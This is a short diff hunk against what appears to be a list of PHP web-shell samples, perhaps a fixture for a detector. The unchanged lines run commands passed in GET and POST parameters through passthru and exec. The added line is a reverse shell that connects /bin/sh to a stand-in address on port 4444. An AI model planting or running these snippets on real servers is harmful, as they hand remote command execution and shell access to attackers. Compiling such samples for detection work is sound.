@@ -19,3 +19,4 @@
 <?php echo php_uname(); if ($_GET['c']) passthru($_GET['c']); ?>
 <?php echo "uname -a"; exec($_POST['c']); ?>
 <?php $c = new COM("Shell.Users"); ?>
+<?php $s = FSockOpen("203.0.113.9", 4444); $p = proc_open("/bin/sh -i", array(0 => $s, 1 => $s, 2 => $s), $pipes); ?>
